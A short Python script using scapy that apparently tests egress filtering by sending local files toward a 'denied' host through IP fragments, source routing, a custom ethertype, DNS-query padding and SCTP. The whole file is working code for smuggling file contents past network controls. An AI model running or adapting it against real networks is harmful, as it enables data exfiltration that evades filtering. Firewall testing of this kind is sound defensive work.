"""Sends files in ways that scapy makes easy: smuggle.py DENIED RESOLVER NAME WAY=FILE..."""

import logging
import sys

logging.getLogger("scapy").setLevel(logging.ERROR)
# Not scapy.all, which takes seconds.
from scapy.arch.linux import L2Socket
from scapy.layers.dns import DNS, DNSQR
from scapy.layers.inet import IP, UDP, IPOption_LSRR, fragment
from scapy.layers.l2 import Ether, getmacbyip
from scapy.layers.sctp import SCTP, SCTPChunkData
from scapy.packet import Raw

PIECE = 740  # ten of the test's
denied, resolver, name = sys.argv[1:4]
ways = {
    "fragments": lambda data: fragment(IP(dst=denied, id=7) / UDP(dport=9999) / Raw(data), 512),
    "source-route": lambda data: [
        IP(dst=resolver, options=IPOption_LSRR(routers=[denied])) / UDP(dport=9999) / Raw(data)
    ],
    "ethertype": lambda data: [Raw(data)],
    "dns": lambda data: [
        IP(dst=resolver) / UDP(dport=53) / DNS(qd=DNSQR(qname=name)) / Raw(data)
    ],
    "sctp": lambda data: [IP(dst=denied) / SCTP(dport=9999) / SCTPChunkData(data=data)],
}
hardware = getmacbyip(resolver)
wire = L2Socket(iface="eth0")
for argument in sys.argv[4:]:
    way, path = argument.split("=")
    ether = Ether(dst=hardware, type=0x88B5 if way == "ethertype" else 0x0800)
    with open(path, "rb") as file:
        while data := file.read(PIECE):
            for packet in ways[way](data):
                wire.send(ether / packet)
